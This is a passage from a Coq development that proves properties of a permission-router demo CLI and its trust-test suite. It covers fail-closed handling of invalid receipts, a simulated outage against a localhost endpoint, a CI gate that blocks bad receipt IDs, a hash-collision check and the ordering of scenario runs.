  let m := InvalidReceipt.run execute tenantId agentId in
  let answer := execute (InvalidReceipt.request tenantId agentId) in
  let box phase errorCode errorMessage message :=
    Process.console_log_formatFailClosed
      {| Process.scenarioName := "Fail-Closed Behavior";
         Process.tool := "test.invalid"; Process.operation := "trigger_error";
         Process.phase := phase; Process.errorCode := errorCode;
         Process.errorMessage := errorMessage; Process.message := message |} in
  (forall r, answer = inr r ->
     Process.outcome m = inl (Process.process_exit 1) /\
     Process.trace m =
       [ box Process.REQUESTING None None None;
         Process.router_execute (InvalidReceipt.request tenantId agentId);
         box Process.UNEXPECTED None None
           (Some "Expected an error but got a response - this is a bug!") ]) /\
  (forall error, answer = inl error ->
     Process.outcome m = inr tt /\
     Process.trace m =
       [ box Process.REQUESTING None None None;
         Process.router_execute (InvalidReceipt.request tenantId agentId);
         box Process.FAIL_CLOSED
           (Some match error with
                 | Router.PermissionProtocolError code _ => code
                 | _ => "UNKNOWN"
                 end)
           (Some (Router.messageOf error)) None ]) /\
  (Process.outcome m = inr tt <-> exists error, answer = inl error) /\
  (forall error, Process.outcome m <> inl (Process.thrown error)) /\
  (forall e, Process.demo e ∉ Process.trace m).
Proof.
  intros m answer box. subst m answer box.
  unfold InvalidReceipt.run. ProcessFacts.process_run.
  destruct (execute (InvalidReceipt.request tenantId agentId)) as [error|r];
    ProcessFacts.process_run.
  - split; [|split; [|split; [|split]]].
    + discriminate.
    + intros error' [= <-]. split; reflexivity.
    + split; [intros _; exists error; reflexivity | reflexivity].
    + discriminate.
    + intros e. rewrite !elem_of_cons, elem_of_nil.
      intros H. decompose [or] H; try discriminate; contradiction.
  - split; [|split; [|split; [|split]]].
    + intros r' _. split; reflexivity.
    + discriminate.
    + split; [discriminate | intros [error H]; discriminate H].
    + discriminate.
    + intros e. rewrite !elem_of_cons, elem_of_nil.
      intros H. decompose [or] H; try discriminate; contradiction.
Qed.

(** X11. The hosted-outage test fails exactly when the SDK returns a
    result, whatever the result says; any thrown value, of whatever
    kind, makes it pass.  It writes a FAIL line exactly when it fails.
    It resets the SDK and configures it with the dead endpoint before
    the one request it sends, and it does not configure the SDK again:
    the configuration that was there before the test is not restored. *)
Theorem hosted_outage_test
    (execute : Router.Request -> Router.Thrown + Demo.ExecuteResult)
    (tenantId agentId : string) :
  let m := TrustSuite.testHostedOutage execute tenantId agentId in
  let answer := execute (TrustSuite.outageRequest tenantId agentId) in
  let written := Process.lines (Process.trace m) in
  Process.outcome m = inr (match answer with inr _ => false | inl _ => true end) /\
  existsb (String.prefix (TrustSuite.RED ++ "✗ FAIL")) written
    = (match answer with inr _ => true | inl _ => false end) /\
  existsb (String.prefix (TrustSuite.GREEN ++ "✓ PASS")) written
    = (match answer with inr _ => false | inl _ => true end) /\
  Process.sdkCalls (Process.trace m) =
    [ Process.router_reset;
      Process.router_configure
        {| Router.endpoint := "http://localhost:59999";
           Router.apiKey := "test-key-for-outage-simulation";
           Router.timeoutMs := Some 3000%Z |};
      Process.router_execute (TrustSuite.outageRequest tenantId agentId) ].
Proof.
  intros m answer written. subst m answer written.
  unfold TrustSuite.testHostedOutage, TrustSuite.printTestHeader,
    TrustSuite.printSuccess, TrustSuite.printFailure.
  ProcessFacts.process_run.
  destruct (execute (TrustSuite.outageRequest tenantId agentId))
    as [[code message|message|asString]|r];
    ProcessFacts.process_run; repeat split; reflexivity.
Qed.

Module TrustFacts.
Import Process ProcessFacts.

Lemma gate_blocks (id : string) :
  TrustTests.blocked (TrustTests.simulateCIGateVerification id) = true.
Proof.
  unfold TrustTests.simulateCIGateVerification.
  repeat match goal with
    | |- context [if ?b then _ else _] => destruct b
    end; reflexivity.
Qed.

(** The event of [console.log(line)]. *)
Definition logged (line : string) : event :=
  demo (Demo.console_log (Demo.text line)).

(** What one round of the loop of test 3 writes. *)
Definition caseLines (id reason : string) : list string :=
  [ TrustSuite.CYAN ++ "─────────────────────────────────────────"
      ++ TrustSuite.RESET;
    "Case: " ++ reason;
    "Receipt ID: " ++ Js.dquote ++ (if Js.falsy id then "(empty)" else id)
      ++ Js.dquote;
    EmptyString;
    TrustSuite.GREEN ++ "✓ PASS" ++ TrustSuite.RESET ++ ": Deploy BLOCKED: "
      ++ TrustTests.message (TrustTests.simulateCIGateVerification id);
    EmptyString ].

Lemma humanErrorCases_cons id reason rest tr :
  TrustSuite.humanErrorCases ((id, reason) :: rest) tr
  = TrustSuite.humanErrorCases rest (tr ++ map logged (caseLines id reason))%list.
Proof.
  cbn [TrustSuite.humanErrorCases]. rewrite gate_blocks.
  unfold TrustSuite.printSuccess. process_run.
  rewrite <- !app_assoc. reflexivity.
Qed.

Lemma appends_humanErrorCases cases : appends (TrustSuite.humanErrorCases cases).
Proof.
  induction cases as [|[id reason] rest IH].
  - apply appends_ret.
  - intros tr. unfold trace, outcome.
    rewrite !humanErrorCases_cons, (IH (tr ++ _)%list), (IH ([] ++ _)%list).
    cbn [fst snd]. rewrite <- app_assoc. reflexivity.
Qed.

Lemma humanErrorCases_run cases :
  trace (TrustSuite.humanErrorCases cases)
  = flat_map (fun c => map logged (caseLines (fst c) (snd c))) cases /\
  outcome (TrustSuite.humanErrorCases cases) = inr None.
Proof.
  induction cases as [|[id reason] rest [IHt IHo]].
  - split; reflexivity.
  - unfold trace, outcome. rewrite humanErrorCases_cons.
    rewrite (appends_humanErrorCases rest). cbn [fst snd flat_map].
    rewrite IHt, IHo. split; reflexivity.
Qed.

Lemma lines_logged ls : lines (map logged ls) = ls.
Proof. induction ls as [|l ls IH]; [reflexivity|]. cbn. f_equal. exact IH. Qed.

Lemma lines_app tr1 tr2 : lines (tr1 ++ tr2) = (lines tr1 ++ lines tr2)%list.
Proof. unfold lines. apply omap_app. Qed.

End TrustFacts.

(** X12. The loop of the human-error test never leaves early: for every
    list of receipt IDs and reasons, not only the four of the test, each
    case is written with a PASS line that carries the gate's message, no
    FAIL line is written and the loop runs to its end; so the test
    itself returns [true], which is also the value of
    [TrustTests.testHumanErrorPath] on the same receipt IDs. *)
Theorem human_error_cases_all_pass (cases : list (string * string)) :
  let m := TrustSuite.humanErrorCases cases in
  let written := Process.lines (Process.trace m) in
  Process.outcome m = inr None /\
  existsb (String.prefix (TrustSuite.RED ++ "✗ FAIL")) written = false /\
  List.filter (String.prefix (TrustSuite.GREEN ++ "✓ PASS")) written
  = map (fun c =>
           TrustSuite.GREEN ++ "✓ PASS" ++ TrustSuite.RESET
           ++ ": Deploy BLOCKED: "
           ++ TrustTests.message (TrustTests.simulateCIGateVerification (fst c)))
        cases /\
  Process.outcome TrustSuite.testHumanErrorPath = inr true /\
  TrustTests.testHumanErrorPath = true /\
  map fst TrustSuite.badReceiptIds = TrustTests.badReceiptIds.
Proof.
  intros m written. subst m written.
  destruct (TrustFacts.humanErrorCases_run cases) as [Ht Ho].
  split; [exact Ho|]. rewrite Ht. clear Ht Ho.
  split; [|split; [|split; [|split; reflexivity]]].
  - induction cases as [|[id reason] rest IH]; [reflexivity|].
    cbn [flat_map]. rewrite TrustFacts.lines_app, TrustFacts.lines_logged.
    rewrite existsb_app, IH. destruct id; reflexivity.
  - induction cases as [|[id reason] rest IH]; [reflexivity|].
    cbn [flat_map]. rewrite TrustFacts.lines_app, TrustFacts.lines_logged.
    rewrite List.filter_app, IH. destruct id; reflexivity.
  - vm_compute. reflexivity.
Qed.

(** X13. The malicious-input test returns what
    [TrustTests.testMaliciousInputAttempt] says: [false] exactly when
    [computeHash] gives the two payloads the same hash.  Its second
    check of the same two hashes can never fail: the line
    [SECURITY FAILURE: Hashes match when they should not] is written in
    no run, and the only FAIL line is the one of the hash collision,
    written exactly when the test fails.  It sends nothing to the
    SDK. *)
Theorem malicious_input_test
    (computeHash : Sdk.HashablePayloadV1 -> string)
    (tenantId agentId : string) :
  let m := TrustSuite.testMaliciousInputAttempt computeHash tenantId agentId in
  let written := Process.lines (Process.trace m) in
  let collision :=
    String.eqb (computeHash TrustTests.originalPayload)
               (computeHash TrustTests.maliciousPayload) in
  Process.outcome m = inr (TrustTests.testMaliciousInputAttempt computeHash) /\
  Process.outcome m = inr (negb collision) /\
  List.filter (String.prefix (TrustSuite.RED ++ "✗ FAIL")) written
  = (if collision
     then [ TrustSuite.RED ++ "✗ FAIL" ++ TrustSuite.RESET
            ++ ": CRITICAL: Hash collision! Different payloads produce same hash." ]
     else []) /\
  Process.sdkCalls (Process.trace m) = [].
Proof.
  intros m written collision. subst m written collision.
  unfold TrustSuite.testMaliciousInputAttempt,
    TrustTests.testMaliciousInputAttempt, TrustSuite.printTestHeader,
    TrustSuite.printSuccess, TrustSuite.printFailure, TrustSuite.printInfo.
  cbv zeta.
  destruct (String.eqb (computeHash TrustTests.originalPayload)
                       (computeHash TrustTests.maliciousPayload));
    vm_compute; repeat split; reflexivity.
Qed.


Module SuiteFacts.
Import Process ProcessFacts.

Lemma appends_printTestHeader n name : appends (TrustSuite.printTestHeader n name).
Proof. unfold TrustSuite.printTestHeader. appends. Qed.

Lemma appends_printSuccess message : appends (TrustSuite.printSuccess message).
Proof. apply appends_emit. Qed.

Lemma appends_printFailure message : appends (TrustSuite.printFailure message).
Proof. apply appends_emit. Qed.

Lemma appends_printInfo message : appends (TrustSuite.printInfo message).
Proof. apply appends_emit. Qed.

Ltac appends_suite :=
  repeat first
    [ match goal with
      | |- appends (TrustSuite.printTestHeader _ _) => apply appends_printTestHeader
      | |- appends (TrustSuite.printSuccess _) => apply appends_printSuccess
      | |- appends (TrustSuite.printFailure _) => apply appends_printFailure
      | |- appends (TrustSuite.printInfo _) => apply appends_printInfo
      | |- appends (TrustSuite.humanErrorCases _) =>
          apply TrustFacts.appends_humanErrorCases
      end
    | progress appends ].

Lemma appends_test1 computeHash tenantId agentId :
  appends (TrustSuite.testMaliciousInputAttempt computeHash tenantId agentId).
Proof. unfold TrustSuite.testMaliciousInputAttempt. cbv zeta. appends_suite. Qed.

Lemma appends_test2 execute tenantId agentId :
  appends (TrustSuite.testHostedOutage execute tenantId agentId).
Proof. unfold TrustSuite.testHostedOutage. cbv zeta. appends_suite. Qed.

Lemma appends_test3 : appends TrustSuite.testHumanErrorPath.
Proof. unfold TrustSuite.testHumanErrorPath. cbv zeta. appends_suite. Qed.

End SuiteFacts.

(** X14. The trust-test suite runs its three tests in order whatever the
    earlier ones return: a failed first test does not keep the second
    from resetting and reconfiguring the SDK.  The suite returns
    normally when [computeHash] separates the two payloads and the SDK
    throws on the outage request, and ends the process with exit code 1
    otherwise; the third test has no part in this, it always passes. *)
Theorem trust_suite_outcome
    (computeHash : Sdk.HashablePayloadV1 -> string)
    (execute : Router.Request -> Router.Thrown + Demo.ExecuteResult)
    (tenantId agentId : string) :
  let m := TrustSuite.runAllTrustTests computeHash execute tenantId agentId in
  let test1 := TrustSuite.testMaliciousInputAttempt computeHash tenantId agentId in
  let test2 := TrustSuite.testHostedOutage execute tenantId agentId in
  let test3 := TrustSuite.testHumanErrorPath in
  let collision :=
    String.eqb (computeHash TrustTests.originalPayload)
               (computeHash TrustTests.maliciousPayload) in
  let answer := execute (TrustSuite.outageRequest tenantId agentId) in
  (exists banner summary,
     Process.trace m =
       (banner ++ Process.trace test1 ++ Process.trace test2
        ++ Process.trace test3 ++ summary)%list /\
     Process.sdkCalls banner = [] /\ Process.sdkCalls summary = []) /\
  Process.outcome m =
    (if collision then inl (Process.process_exit 1)
     else match answer with
          | inr _ => inl (Process.process_exit 1)
          | inl _ => inr tt
          end) /\
  Process.sdkCalls (Process.trace m) =
    [ Process.router_reset;
      Process.router_configure
        {| Router.endpoint := "http://localhost:59999";
           Router.apiKey := "test-key-for-outage-simulation";
           Router.timeoutMs := Some 3000%Z |};
      Process.router_execute (TrustSuite.outageRequest tenantId agentId) ].
Proof.
  intros m test1 test2 test3 collision answer.
  assert (H1 : Process.outcome test1 = inr (negb collision) /\
               Process.sdkCalls (Process.trace test1) = []).
  { subst test1 collision.
    unfold TrustSuite.testMaliciousInputAttempt,
      TrustSuite.printTestHeader, TrustSuite.printSuccess,
      TrustSuite.printFailure, TrustSuite.printInfo.
    cbv zeta.
    destruct (String.eqb (computeHash TrustTests.originalPayload)
                         (computeHash TrustTests.maliciousPayload));
      vm_compute; split; reflexivity. }
  assert (H2 : Process.outcome test2
               = inr (match answer with inr _ => false | inl _ => true end) /\
               Process.sdkCalls (Process.trace test2) =
               [ Process.router_reset;
                 Process.router_configure
                   {| Router.endpoint := "http://localhost:59999";
                      Router.apiKey := "test-key-for-outage-simulation";
                      Router.timeoutMs := Some 3000%Z |};
                 Process.router_execute
                   (TrustSuite.outageRequest tenantId agentId) ]).
  { subst test2 answer.
    unfold TrustSuite.testHostedOutage, TrustSuite.printTestHeader,
      TrustSuite.printSuccess, TrustSuite.printFailure.
    ProcessFacts.process_run.
    destruct (execute (TrustSuite.outageRequest tenantId agentId))
      as [[code message|message|asString]|r];
      ProcessFacts.process_run; split; reflexivity. }
  assert (H3 : Process.outcome test3 = inr true /\
               Process.sdkCalls (Process.trace test3) = []).
  { subst test3. vm_compute. split; reflexivity. }
  destruct H1 as [Ho1 Hs1], H2 as [Ho2 Hs2], H3 as [Ho3 Hs3].
  pose proof (SuiteFacts.appends_test1 computeHash tenantId agentId) as Ha1.
  pose proof (SuiteFacts.appends_test2 execute tenantId agentId) as Ha2.
  pose proof SuiteFacts.appends_test3 as Ha3.
  fold test1 in Ha1. fold test2 in Ha2. fold test3 in Ha3.
  assert (Hrun : forall tr,
    TrustSuite.runAllTrustTests computeHash execute tenantId agentId tr
    = m tr) by reflexivity.
  unfold TrustSuite.runAllTrustTests in Hrun.
  change (TrustSuite.testMaliciousInputAttempt computeHash tenantId agentId)
    with test1 in Hrun.
  change (TrustSuite.testHostedOutage execute tenantId agentId)
    with test2 in Hrun.
  change TrustSuite.testHumanErrorPath with test3 in Hrun.
  clearbody test1 test2 test3 m.
  specialize (Hrun []).
  change (Process.trace m) with (fst (m [])).
  change (Process.outcome m) with (snd (m [])).
  remember (m []) as run eqn:Em in *. clear Em m. rename Hrun into Erun.
  unfold mbind, mret, Process.process_bind, Process.process_ret, Process.bind,
    Process.ret, Process.console_log, Process.emit in Erun. cbn [app] in Erun.
  rewrite Ha1, Ho1, Ha2, Ho2, Ha3, Ho3 in Erun.
  unfold Process.sdkCalls in *.
  remember (Process.trace test1) as T1 eqn:E1.
  remember (Process.trace test2) as T2 eqn:E2.
  remember (Process.trace test3) as T3 eqn:E3.
  clear E1 E2 E3 Ha1 Ha2 Ha3 Ho1 Ho2 Ho3 test1 test2 test3.
  destruct collision, answer as [error|r]; (
    repeat (progress (
      cbn [Process.forEach forallb snd fst negb andb] in Erun;
      unfold mbind, mret, Process.process_bind, Process.process_ret,
        Process.bind, Process.ret, Process.process_exit_with,
        Process.console_log, Process.emit in Erun));
    rewrite <- !app_assoc in Erun; cbn [app] in Erun;
    subst run; cbn [fst snd];
    (split; [|split]);
    [ eexists (_ :: _ :: _ :: _ :: _ :: []), _;
      split; [cbn [app]; reflexivity | split; reflexivity]
    | reflexivity
    | cbn [List.filter Process.isSdkCall];
      rewrite !List.filter_app, Hs1, Hs2, Hs3; reflexivity ]).
Qed.


(* ===================================================================== *)
(** * Properties of the command                                           *)
(* ===================================================================== *)

Module CliFacts.
Import Process ProcessFacts.

Lemma appends_printHeader : appends Printing.printHeader.
Proof. unfold Printing.printHeader. appends. Qed.

Lemma appends_printSeparator : appends Printing.printSeparator.
Proof. unfold Printing.printSeparator. appends. Qed.

Lemma appends_printSummary results : appends (Printing.printSummary results).
Proof. unfold Printing.printSummary. cbv zeta. appends. Qed.

Lemma appends_invalid_receipt execute tenantId agentId :
  appends (InvalidReceipt.run execute tenantId agentId).
Proof. unfold InvalidReceipt.run. cbv zeta. appends. Qed.

Lemma appends_trust_tests computeHash execute tenantId agentId :
  appends (TrustSuite.run computeHash execute tenantId agentId).
Proof.
  unfold TrustSuite.run, TrustSuite.runAllTrustTests. cbv zeta.
  repeat first
    [ match goal with
      | |- appends (TrustSuite.testMaliciousInputAttempt _ _ _) =>
          apply SuiteFacts.appends_test1
      | |- appends (TrustSuite.testHostedOutage _ _ _) =>
          apply SuiteFacts.appends_test2
      | |- appends TrustSuite.testHumanErrorPath => apply SuiteFacts.appends_test3
      | |- appends (let '(_, _) := ?p in _) => destruct p
      end
    | progress appends ].
Qed.

Lemma appends_help : appends Cli.help.
Proof. unfold Cli.help. appends. Qed.

Lemma lines_demo_error tr :
  (forall e, e ∈ tr -> exists line, e = Demo.console_error line) ->
  lines (map demo tr) = [].
Proof.
  induction tr as [|e tr IH]; [reflexivity|]. intros H.
  destruct (H e) as [line ->]; [left|]. cbn.
  apply IH. intros e' He'. apply H. right. exact He'.
Qed.

Lemma sdkCalls_demo tr : sdkCalls (map demo tr) = [].
Proof. induction tr as [|e tr IH]; [reflexivity | exact IH]. Qed.

Lemma sdkCalls_app tr1 tr2 :
  sdkCalls (tr1 ++ tr2) = (sdkCalls tr1 ++ sdkCalls tr2)%list.
Proof. apply List.filter_app. Qed.

Lemma validateEnv_returns env cfg :
  Demo.outcome (Index.validateEnv env) = inr cfg ->
  Demo.trace (Index.validateEnv env) = [].
Proof.
  unfold Index.validateEnv, Demo.trace, Demo.outcome.
  destruct (env !! "PP_ENDPOINT") as [[|c1 e]|];
    destruct (env !! "PP_API_KEY") as [[|c2 a]|];
    destruct (env !! "PP_TENANT_ID") as [[|c3 t]|];
    cbn; intros H; try discriminate H; reflexivity.
Qed.

Section World.

Variable processEnv : gmap string string.
Variable execute : Demo.ExecuteRequest -> Demo.Exn + Demo.ExecuteResult.
Variable execute_any : Router.Request -> Router.Thrown + Demo.ExecuteResult.
Variable Date_now : Scenarios.Scenario -> Z.
Variable sendResult : Demo.SendCampaignInput -> Demo.ToolResult.
Variable computeHash : Sdk.HashablePayloadV1 -> string.

Let scenarios :=
  Cli.scenarios execute execute_any Date_now sendResult computeHash.
Let runAll :=
  Cli.runAll execute execute_any Date_now sendResult computeHash.
Let action :=
  Cli.action processEnv execute execute_any Date_now sendResult computeHash.

Lemma appends_scenario name tenantId agentId :
  appends (Cli.run (scenarios name) tenantId agentId).
Proof.
  destruct name; cbn.
  - apply appends_lift.
  - apply appends_lift.
  - apply appends_lift.
  - apply appends_invalid_receipt.
  - apply appends_trust_tests.
Qed.

(** A gated scenario ends when the SDK throws, and returns otherwise; it
    writes boxes and notices, no line of text, and does not use the SDK
    boundary of the other scenarios. *)
Lemma gated_run (s : Scenarios.Scenario) tenantId agentId :
  let m := Scenarios.run execute (Date_now s) sendResult s tenantId agentId in
  Demo.outcome m =
    match execute (Scenarios.request s tenantId agentId) with
    | inl e => inl (Demo.thrown e)
    | inr _ => inr tt
    end /\
  lines (map demo (Demo.trace m)) = [].
Proof.
  destruct s;
    unfold Scenarios.run, Scenarios.spend_run, Scenarios.prod_run,
      Scenarios.message_run, Scenarios.PermissionRouter_execute,
      Scenarios.run_chargeCustomer, Scenarios.run_writeRecord,
      Scenarios.run_sendCampaignMessage, Scenarios.request;
    DemoFacts.demo_run;
    match goal with |- context [execute ?q] => destruct (execute q) as [e|r] end;
    DemoFacts.demo_run; try (split; reflexivity);
    destruct (String.eqb (Demo.status r) "APPROVED");
    DemoFacts.demo_run; split; reflexivity.
Qed.

Lemma invalid_receipt_run tenantId agentId :
  let m := InvalidReceipt.run execute_any tenantId agentId in
  outcome m =
    match execute_any (InvalidReceipt.request tenantId agentId) with
    | inl _ => inr tt
    | inr _ => inl (process_exit 1)
    end /\
  lines (trace m) = [].
Proof.
  unfold InvalidReceipt.run. process_run.
  destruct (execute_any (InvalidReceipt.request tenantId agentId));
    process_run; split; reflexivity.
Qed.

(** The entry [--all] pushes for a scenario. *)
Definition entry (name : Cli.ScenarioName) : Printing.Result :=
  {| Printing.scenario := Cli.SCENARIO_NAME (scenarios name);
     Printing.status := Cli.EXPECTED_STATUS (scenarios name);
     Printing.match_ := true |}.

Lemma appends_runAll tenantId agentId order results :
  appends (runAll tenantId agentId order results).
Proof.
  revert results. induction order as [|name rest IH]; intros results.
  - apply appends_ret.
  - unfold runAll. cbn [Cli.runAll]. cbv zeta. fold runAll.
    apply appends_bind; [apply appends_scenario|]. intros _.
    apply appends_bind; [|intros _; apply IH].
    destruct (negb _); [apply appends_printSeparator | apply appends_ret].
Qed.

Lemma runAll_cons tenantId agentId name rest results :
  let m := Cli.run (scenarios name) tenantId agentId in
  let separator :=
    if negb (String.eqb (Cli.key name) "invalid-receipt")
    then trace Printing.printSeparator else [] in
  trace (runAll tenantId agentId (name :: rest) results) =
    (trace m ++ match outcome m with
                | inl _ => []
                | inr _ =>
                    separator
                    ++ trace (runAll tenantId agentId rest (results ++ [entry name]))
                end)%list /\
  outcome (runAll tenantId agentId (name :: rest) results) =
    match outcome m with
    | inl s => inl s
    | inr _ => outcome (runAll tenantId agentId rest (results ++ [entry name]))
    end.
Proof.
  intros m separator. unfold runAll. cbn [Cli.runAll]. cbv zeta.
  fold scenarios. fold m. fold (entry name).
  assert (Hm : appends m) by apply appends_scenario.
  assert (Hsep : appends
    (if negb (String.eqb (Cli.key name) "invalid-receipt")
     then Printing.printSeparator else mret tt)).
  { destruct (negb _); [apply appends_printSeparator | apply appends_ret]. }
  match goal with
  | |- context [trace (m ≫= ?k)] =>
      assert (Hk : forall u, appends (k u));
      [ intros _; apply appends_bind; [exact Hsep | intros _; apply appends_runAll]
      | rewrite (trace_bind m k Hm Hk), (outcome_bind m k Hm Hk) ]
  end.
  destruct (outcome m) as [s|[]]; [split; reflexivity|].
  rewrite (trace_bind _ _ Hsep), (outcome_bind _ _ Hsep)
    by (intros _; apply appends_runAll).
  subst separator.
  destruct (negb (String.eqb (Cli.key name) "invalid-receipt")); split; reflexivity.
Qed.

(** What the action does once the environment is read, the SDK
    configured and the header printed. *)
Definition afterHeader (options : Cli.Options) (env : Index.Config) : M unit :=
  if Cli.all options then
    results ← runAll (Index.tenantId env) (Index.agentId env) Cli.scenarioOrder [];
    Printing.printSummary results
  else if negb (Js.falsy_opt (Cli.scenario options)) then
    let name := default EmptyString (Cli.scenario options) in
    match Cli.lookup name with
    | Cli.undefined =>
        console_error ("Unknown scenario: " ++ name);;
        console_error "Available scenarios: spend, prod, message, invalid-receipt";;
        process_exit_with 1
    | Cli.inherited =>
        throw (Router.OtherError "scenario.run is not a function")
    | Cli.own name =>
        Cli.run (scenarios name) (Index.tenantId env) (Index.agentId env)
    end
  else Cli.help.

Lemma appends_afterHeader options env : appends (afterHeader options env).
Proof.
  unfold afterHeader. destruct (Cli.all options).
  - apply appends_bind; [apply appends_runAll|].
    intros results. apply appends_printSummary.
  - destruct (negb _); [|apply appends_help]. cbv zeta.
    destruct (Cli.lookup _); [apply appends_scenario | appends | appends].
Qed.

Lemma action_run options cfg :
  Demo.outcome (Index.validateEnv processEnv) = inr cfg ->
  trace (action options) =
    (router_configure {| Router.endpoint := Index.endpoint cfg;
                         Router.apiKey := Index.apiKey cfg;
                         Router.timeoutMs := None |}
     :: trace Printing.printHeader ++ trace (afterHeader options cfg))%list /\
  outcome (action options) = outcome (afterHeader options cfg).
Proof.
  intros Hvalid. unfold action.
  assert (Hk : forall env : Index.Config, appends
    (PermissionRouter_configure
       {| Router.endpoint := Index.endpoint env;
          Router.apiKey := Index.apiKey env; Router.timeoutMs := None |};;
     Printing.printHeader;; afterHeader options env)).
  { intros env. apply appends_bind; [apply appends_emit|]. intros _.
    apply appends_bind; [apply appends_printHeader|]. intros _.
    apply appends_afterHeader. }
  assert (Heq :
    Cli.action processEnv execute execute_any Date_now sendResult computeHash
      options
    = lift (Index.validateEnv processEnv) ≫= fun env =>
        PermissionRouter_configure
          {| Router.endpoint := Index.endpoint env;
             Router.apiKey := Index.apiKey env; Router.timeoutMs := None |};;
        Printing.printHeader;; afterHeader options env) by reflexivity.
  rewrite Heq. clear Heq.
  rewrite (trace_bind _ _ (appends_lift _) Hk),
    (outcome_bind _ _ (appends_lift _) Hk).
  rewrite outcome_lift, trace_lift, Hvalid, (validateEnv_returns _ _ Hvalid).
  cbn [liftStop map app].
  rewrite !trace_bind, !outcome_bind;
    try apply appends_emit; try apply appends_printHeader;
    try (intros; apply appends_afterHeader);
    try (intros; apply appends_bind;
         [apply appends_printHeader | intros; apply appends_afterHeader]).
  split; reflexivity.
Qed.

Lemma action_without_env options :
  Demo.outcome (Index.validateEnv processEnv) = inl (Demo.process_exit 1) ->
  trace (action options) = map demo (Demo.trace (Index.validateEnv processEnv)) /\
  outcome (action options) = inl (process_exit 1).
Proof.
  intros Hexit. unfold action, Cli.action.
  unfold trace, outcome, mbind, process_bind, bind.
  rewrite lift_run, Hexit. split; reflexivity.
Qed.

Lemma scenario_run name tenantId agentId :
  let m := Cli.run (scenarios name) tenantId agentId in
  match name with
  | Cli.spend | Cli.prod | Cli.message =>
      let s := match name with
               | Cli.spend => Scenarios.spend
               | Cli.prod => Scenarios.prod
               | _ => Scenarios.message
               end in
      outcome m =
        match execute (Scenarios.request s tenantId agentId) with
        | inl e => inl (scenario_thrown e)
        | inr _ => inr tt
        end /\
      lines (trace m) = [] /\ sdkCalls (trace m) = []
  | Cli.invalid_receipt =>
      outcome m =
        match execute_any (InvalidReceipt.request tenantId agentId) with
        | inl _ => inr tt
        | inr _ => inl (process_exit 1)
        end /\
      lines (trace m) = [] /\
      sdkCalls (trace m) = [router_execute (InvalidReceipt.request tenantId agentId)]
  | Cli.trust_tests => True
  end.
Proof.
  destruct name;
    cbn -[Scenarios.run InvalidReceipt.run Scenarios.request InvalidReceipt.request];
    try exact I.
  1-3: rewrite outcome_lift, trace_lift, sdkCalls_demo;
    match goal with
    | |- context [Scenarios.run _ _ _ ?s _ _] =>
        destruct (gated_run s tenantId agentId) as [Ho Hl]
    end;
    rewrite Ho, Hl;
    match goal with |- context [execute ?q] => destruct (execute q) end;
    repeat split; reflexivity.
  destruct (invalid_receipt_run tenantId agentId) as [Ho Hl].
  rewrite Ho, Hl. repeat split.
  unfold InvalidReceipt.run. process_run.
  destruct (execute_any (InvalidReceipt.request tenantId agentId));
    process_run; reflexivity.
Qed.

(** The lines between two scenarios of [--all]. *)
Definition separatorLines : list string := lines (trace Printing.printSeparator).

Lemma runAll_order tenantId agentId :
  let gated s := execute (Scenarios.request s tenantId agentId) in
  let failClosed := execute_any (InvalidReceipt.request tenantId agentId) in
  let m := runAll tenantId agentId Cli.scenarioOrder [] in
  outcome m =
    match gated Scenarios.spend with
    | inl e => inl (scenario_thrown e)
    | inr _ =>
        match gated Scenarios.prod with
        | inl e => inl (scenario_thrown e)
        | inr _ =>
            match gated Scenarios.message with
            | inl e => inl (scenario_thrown e)
            | inr _ =>
                match failClosed with
                | inr _ => inl (process_exit 1)
                | inl _ => inr (map entry Cli.scenarioOrder)
                end
            end
        end
    end /\
  (forall results, outcome m = inr results ->
     lines (trace m) = (separatorLines ++ separatorLines ++ separatorLines)%list /\
     sdkCalls (trace m)
     = [router_execute (InvalidReceipt.request tenantId agentId)]).
Proof.
  intros gated failClosed m. subst m. unfold Cli.scenarioOrder.
  destruct (runAll_cons tenantId agentId Cli.spend
              [Cli.prod; Cli.message; Cli.invalid_receipt] []) as [Ht1 Ho1].
  destruct (runAll_cons tenantId agentId Cli.prod
              [Cli.message; Cli.invalid_receipt] [entry Cli.spend]) as [Ht2 Ho2].
  destruct (runAll_cons tenantId agentId Cli.message
              [Cli.invalid_receipt] [entry Cli.spend; entry Cli.prod])
    as [Ht3 Ho3].
  destruct (runAll_cons tenantId agentId Cli.invalid_receipt []
              [entry Cli.spend; entry Cli.prod; entry Cli.message])
    as [Ht4 Ho4].
  cbn [app] in *.
  pose proof (scenario_run Cli.spend tenantId agentId) as (Hs1 & Hl1 & Hc1).
  pose proof (scenario_run Cli.prod tenantId agentId) as (Hs2 & Hl2 & Hc2).
  pose proof (scenario_run Cli.message tenantId agentId) as (Hs3 & Hl3 & Hc3).
  pose proof (scenario_run Cli.invalid_receipt tenantId agentId) as (Hs4 & Hl4 & Hc4).
  cbv zeta in *. subst gated failClosed. cbv beta.
  rewrite Ho1, Ht1, Hs1.
  destruct (execute (Scenarios.request Scenarios.spend tenantId agentId))
    as [e1|r1]; [split; [reflexivity | discriminate]|].
  rewrite Ho2, Ht2, Hs2.
  destruct (execute (Scenarios.request Scenarios.prod tenantId agentId))
    as [e2|r2]; [split; [reflexivity | discriminate]|].
  rewrite Ho3, Ht3, Hs3.
  destruct (execute (Scenarios.request Scenarios.message tenantId agentId))
    as [e3|r3]; [split; [reflexivity | discriminate]|].
  rewrite Ho4, Ht4, Hs4.
  destruct (execute_any (InvalidReceipt.request tenantId agentId)) as [e4|r4]; [|split; [reflexivity | discriminate]].
  split; [reflexivity|]. intros results _.
  rewrite !TrustFacts.lines_app, !sdkCalls_app, Hl1, Hl2, Hl3, Hl4,
    Hc1, Hc2, Hc3, Hc4.
  split; reflexivity.
Qed.

(** What [--all] writes when it runs to its end: the output of the
    four scenarios in order, a separator after each of the first
    three. *)
Lemma runAll_trace tenantId agentId results :
  let output name := trace (Cli.run (scenarios name) tenantId agentId) in
  let separator := trace Printing.printSeparator in
  outcome (runAll tenantId agentId Cli.scenarioOrder []) = inr results ->
  trace (runAll tenantId agentId Cli.scenarioOrder [])
  = (output Cli.spend ++ separator ++ output Cli.prod ++ separator
     ++ output Cli.message ++ separator ++ output Cli.invalid_receipt)%list.
Proof.
  intros output separator. unfold Cli.scenarioOrder.
  destruct (runAll_cons tenantId agentId Cli.spend
              [Cli.prod; Cli.message; Cli.invalid_receipt] []) as [Ht1 Ho1].
  destruct (runAll_cons tenantId agentId Cli.prod
              [Cli.message; Cli.invalid_receipt] [entry Cli.spend]) as [Ht2 Ho2].
  destruct (runAll_cons tenantId agentId Cli.message
